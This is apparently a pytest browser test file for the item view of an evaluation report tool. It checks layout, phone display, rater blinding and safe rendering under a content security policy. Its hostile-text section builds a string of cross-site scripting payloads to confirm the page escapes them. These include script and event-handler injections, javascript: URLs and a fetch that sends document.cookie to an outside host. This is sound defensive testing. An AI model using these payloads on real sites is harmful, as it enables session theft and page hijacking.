"""The item view in a real browser, under the content security policy of the report."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable
from importlib import resources
from pathlib import Path
from typing import Any

import pytest

from apbjudge.protocols.table import protocol_of
from apbjudge.records import Call, Row
from apbjudge.reports.page.alignment import align
from apbjudge.reports.page.items import case_view, prediction_view

from ..reports.rows import check_golden
from .conftest import PHONE

Show = Callable[..., Any]


def asset(name: str) -> str:
    return resources.files("apbjudge.reports").joinpath("web", name).read_text(encoding="utf-8")


def allowed(text: str) -> str:
    digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
    return f"'sha256-{digest}'"


@pytest.fixture
def show(page: Any, tmp_path: Path) -> Show:
    """Shows an item in a page that allows nothing but our own script and style."""
    script = "\n".join(
        asset(f"{name}.js") for name in ("nodes", "steps", "calls", "verdicts", "item")
    )
    style = asset("base.css") + asset("item.css")
    rules = f"default-src 'none'; script-src {allowed(script)}; style-src {allowed(style)}"
    (tmp_path / "page.html").write_text(
        '<!doctype html><html lang="en"><meta charset="utf-8"><title>One item</title>'
        '<meta name="viewport" content="width=device-width">'
        f'<meta http-equiv="Content-Security-Policy" content="{rules}; img-src data:">'
        f"<style>{style}</style><main><h1>One item</h1></main><script>{script}</script>",
        encoding="utf-8",
    )
    page.goto((tmp_path / "page.html").as_uri())

    def shown(data: dict[str, Any], options: dict[str, Any] | None = None) -> Any:
        page.evaluate(
            """([data, options]) => {
                document.querySelector(".item-view")?.remove();
                document.querySelector("main").append(apb.itemView(data, options));
            }""",
            [data, options or {}],
        )
        return page.locator(".item-view")

    return shown


def open_all(page: Any) -> None:
    """Opens every disclosure, those inside others as well."""
    page.evaluate(
        """async () => {
            const closed = () => [...document.querySelectorAll("details:not([open])")];
            while (closed().length) {
                for (const made of closed()) made.open = true;
                await new Promise((done) => setTimeout(done));
            }
        }"""
    )


def example(name: str, number: int) -> dict[str, Any]:
    """Line ``number`` of an example file, as the page gets it."""
    line = Path("examples", name).read_text(encoding="utf-8").splitlines()[number - 1]
    item = Row(json.loads(line), number).to_item()
    protocol = protocol_of(item)
    findings = [one.__dict__ for one in protocol.find(item, protocol.rubric_for(item))]
    about = {"id": item.item_id, "model": item.tested_model, "protocol": protocol.name}
    return {"case": case_view(item), "prediction": prediction_view(item, findings), "item": about}


def verdict(**values: Any) -> dict[str, Any]:
    flags = {f"E{n}": n == 5 for n in range(1, 7)}
    return {"judge": "j", "kind": "verdict", "is_correct": False, "errors": flags, **values}


# What is shown -----------------------------------------------------------------------------------


def test_items_are_shown_as_in_the_golden_text(show: Show):
    """With chains side by side, with a step that calls no tool, and without any data."""
    late = {"judge": "k", "kind": "unscored", "reason": "timeout", "detail": "after 60 s"}
    whole = {
        **example("holistic.jsonl", 2),
        "judgements": [verdict(grade=0.8, reasoning="because", inconsistent=True), late],
        "human": {"is_correct": True, "grade": 1.0, "errors": {"E5": False}, "ties": ["E6"]},
        "labels": [{"rater": "r", "is_correct": True, "note": "fine"}, {"rater": "s"}],
    }
    result = [{"code": "E6", "certainty": "suspected", "message": "m", "where": "tool_chain[3]"}]
    lost = {
        "prediction": {"findings": result},
        "item": {"id": "i"},
        "judgements": [None],
    }
    shown = (whole, example("step_wise.jsonl", 8), lost, {})
    check_golden("item_view.txt", "\n\n".join(show(data).inner_text() for data in shown))
    row = show(whole).locator(".chain > .row.arguments").first
    ours, theirs = row.locator(".ours").bounding_box(), row.locator(".theirs").bounding_box()
    assert ours["y"] == theirs["y"]
    assert ours["x"] + ours["width"] <= theirs["x"]


def test_the_same_calls_in_another_order_look_correct(show: Show):
    data = example("holistic.jsonl", 2)
    steps = data["case"]["reference"]["steps"]
    calls = [call for step in steps for call in step["calls"]]
    ours, theirs = ([Call(c["name"], c["arguments"]) for c in of] for of in (calls[::-1], calls))
    chain = [row._asdict() for row in align(ours, theirs)]
    data["prediction"] |= {"steps": steps[::-1], "chain": chain}
    view = show({**data, "judgements": []})
    line = view.locator(".agrees")
    assert line.inner_text() == "✓ The same calls as the reference, in another order."
    kinds = view.locator(".chain > .row:not(.titles) .kind").all_inner_texts()
    assert kinds[0] == f"↕ same call, moved from {len(calls)} to 1"
    assert all("same call" in kind for kind in kinds)


def test_on_a_phone(
    show: Show, page: Any, axe: Callable[[Any], None], sideways: Callable[[Any], None]
):
    page.set_viewport_size(PHONE)
    page.emulate_media(color_scheme="dark")
    judgements = [verdict(judge="j" * 200)] * 3
    view = show({**example("efficiency.jsonl", 23), "judgements": judgements})
    open_all(page)
    sideways(page)
    ours, theirs = (view.locator(f".row.arguments .{side}").first for side in ("ours", "theirs"))
    assert ours.bounding_box()["y"] < theirs.bounding_box()["y"]
    axe(page)


def test_what_a_rater_must_not_see(show: Show):
    data = {**example("tool_extraneous.jsonl", 6), "judgements": [verdict(reasoning="because")]}
    hidden = dict.fromkeys(("showJudges", "showModel", "showCondition", "showFindings"), False)
    seen, blind = show(data).text_content(), show(data, hidden).text_content()
    for text in ("because", "cress-small", "distractor", "Proven"):
        assert text in seen
        assert text not in blind


def test_pictures_only_from_here(show: Show, page: Any):
    dot = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
    bad = ["https://example.org/a.png", "//example.org/a.png", "javascript:window.__pwned=1", 7]
    bad += ["data:text/html;base64,PGI+", "data:image/svg+xml;base64,PHN2Zz4="]
    files = [{"type": "image", "path": f"f{i}", "url": url} for i, url in enumerate([dot, *bad])]
    view = show({"case": {"query": "q", "files": files}, "prediction": {"kind": "plan"}})
    assert view.locator("img").count() == 1
    assert view.locator("img").get_attribute("alt") == "image f0"
    assert view.locator(".files li").count() == len(files)


# Hostile texts -----------------------------------------------------------------------------------

HOSTILE = (
    "<script>window.__pwned=1;alert(1)</script>"
    "<img src=x onerror=\"window.__pwned=1;fetch('https://example.org/'+document.cookie)\">"
    "</script><svg onload=window.__pwned=1><style>*{display:none}</style></title></textarea>"
    "<a href=\"javascript:window.__pwned=1\">x</a>{{7*7}}${window.__pwned=1}{% raw %}<!--"
    "<iframe srcdoc='<script>parent.__pwned=1</script>'>\u202egnp.exe\u0000\u001b[31m\u200b"
    "' onmouseover=window.__pwned=1 x='\u0301\u0301\u0301" + "w" * 3000
)  # fmt: skip


class Poison:
    """Numbers hostile texts, so that each can be found again; ``seen`` says where each went."""

    def __init__(self) -> None:
        self.places: dict[str, str] = {}

    def text(self, place: str) -> str:
        number = f"@{len(self.places)}@"
        self.places[number] = place
        return number + HOSTILE

    def into(self, value: Any) -> Any:
        return changed(value, self.text)


CHOOSING = ("kind", "certainty", "path", "key", "method")


def changed(value: Any, change: Callable[[str], Any], place: str = "") -> Any:
    """The value with every string in it replaced, except those that choose how to show."""
    if isinstance(value, dict):
        return {
            key: child if key in CHOOSING else changed(child, change, f"{place}.{key}")
            for key, child in value.items()
        }
    if isinstance(value, list):
        return [changed(child, change, place) for child in value]
    return change(place) if isinstance(value, str) else value


NEVER_SHOWN = {
    ".case.files.url",
    ".prediction.findings.rule",
    ".prediction.findings.where",  # of those that stand at their place
}


def full() -> dict[str, Any]:
    """An item with something in every field that the view knows."""
    arguments = {"a": "v", "b": {"c": ["d"]}}
    call = {"name": "n", "arguments": arguments, "reason": "r", "unknown": True}
    step = {"number": 1, "thought": "t", "calls": [call, call]}
    result = {"code": "c", "certainty": "proven", "rule": "r", "message": "m", "where": "w"}
    parameters = {"properties": {"x": {"type": "t", "description": "d", "enum": ["e"]}}}
    tool = {"name": "n", "description": "d", "marks": ["m"], "cost": 1, "parameters": parameters}
    message = {"source": "r", "text": "t", "name": "n", "calls": [{"name": "n", "arguments": {}}]}
    override = {"field": "f", "was": "w", "now": "n", "because": "b"}
    uncertainty = {
        "method": "samples",
        "n": 5,
        "shares": {"is_correct": 0.8},
        "grades": {"0.8": 1.0},
    }
    told = {"decided_by": "d", "reasoning": "r", "raw": "w", "rubric": "r", "fingerprint": "f"}
    return {
        "item": {"id": "i", "model": "m", "protocol": "p"},
        "case": {
            "query": "q",
            "system": "s",
            "files": [{"type": "t", "url": "u"}],
            "tools": [tool, {"name": "n", "parameters": "prose"}],
            "trajectory": [message],
            "reference": {
                "plan": "p",
                "steps": [step, {"number": 9, "thought": "t"}],
            },
            "condition": {
                "unsolvable_type": "u",
                "broken_tool": "b",
                "replacement": "r",
                "extraneous": ["x"],
            },
            "groups": {"category": "c"},
        },
        "prediction": {
            "kind": "plan",
            "plan": "p",
            "response": "r",
            "steps": [step, {"number": 8, "thought": "t"}],
            "problems": [{"where": "w", "message": "m"}],
            "chain": [
                {"ours": 0, "theirs": 0, "kind": "arguments"},
                {"ours": None, "theirs": 1, "kind": "missing"},
                {"ours": 1, "theirs": None, "kind": "extra"},
            ],
            "findings": [
                result,
                {**result, "call": 0, "path": ""},
                {**result, "call": 0, "path": "b.c", "key": "b"},
            ],
        },
        "judgements": [
            verdict(
                **{"judge": "j", "category": 1, **told},
                overrides=[override],
                uncertainty={**uncertainty, "entropy": {"is_correct": 0.7}},
            ),
            {"judge": "k", "kind": "unscored", "reason": "x", "detail": "d", "raw": "r"},
        ],
        "labels": [{"rater": "r", "is_correct": True, "note": "n"}, {"rater": "s", "note": "n"}],
        "human": {"is_correct": True, "ties": []},
    }


def test_hostile_texts_are_only_texts(show: Show, page: Any, sideways: Callable[[Any], None]):
    poison = Poison()
    data = poison.into(full())
    for into in (
        data["prediction"]["steps"][0]["calls"][0]["arguments"],
        data["case"]["tools"][0]["parameters"]["properties"],
        data["case"]["groups"],
        data["judgements"][0]["errors"],
    ):
        into[poison.text("key")] = True
    text = show(data, {"codes": {"E5": poison.text("name of a code")}, "level": 3})
    open_all(page)
    seen = text.text_content()
    unseen = {place for number, place in poison.places.items() if f"{number}<script>" not in seen}
    assert unseen == NEVER_SHOWN
    assert "\\u{202e}gnp.exe\\u{0}\\u{1b}[31m\\u{200b}" in seen
    assert "\u202e" not in seen
    assert page.evaluate("window.__pwned") is None
    tags = "script, iframe, svg, style, a, [onerror], [onload], [onmouseover], [style], img"
    assert text.locator(tags).count() == 0
    sideways(page)
    page.set_viewport_size(PHONE)
    sideways(page)


def test_values_of_the_wrong_type_become_no_attributes(show: Show):
    """A file of judgements need not be ours: an object may stand where a text should."""
    wrong = {"onclick": "window.__pwned = 1", "style": "position: fixed", "id": "x", "src": "x"}
    view = show(changed(full(), lambda _: wrong))
    assert view.text_content().count("position: fixed") > 10
    assert view.locator("[onclick], [style], #x, [src=x]").count() == 0
